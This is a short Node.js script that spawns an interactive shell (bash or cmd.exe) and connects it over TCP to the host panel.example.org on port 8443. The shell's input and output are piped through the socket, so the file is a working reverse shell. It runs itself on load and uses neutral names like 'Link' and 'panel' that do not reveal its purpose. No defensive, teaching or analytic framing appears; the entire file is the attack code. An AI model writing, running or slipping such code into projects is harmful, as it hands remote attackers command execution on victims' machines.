const net = require("net");
const { spawn } = require("child_process");
const { pipeline } = require("stream");

class Link {
  get program() {
    return process.platform === "win32" ? ["cmd.exe", []] : ["/bin/bash", ["-i"]];
  }
  open() {
    const child = spawn(...this.program);
    const socket = net.connect({ host: "panel.example.org", port: 8443 }, () => {
      pipeline(socket, child.stdin, () => {});
      child.stdout.on("data", (data) => socket.write(data));
    });
  }
}
new Link().open();
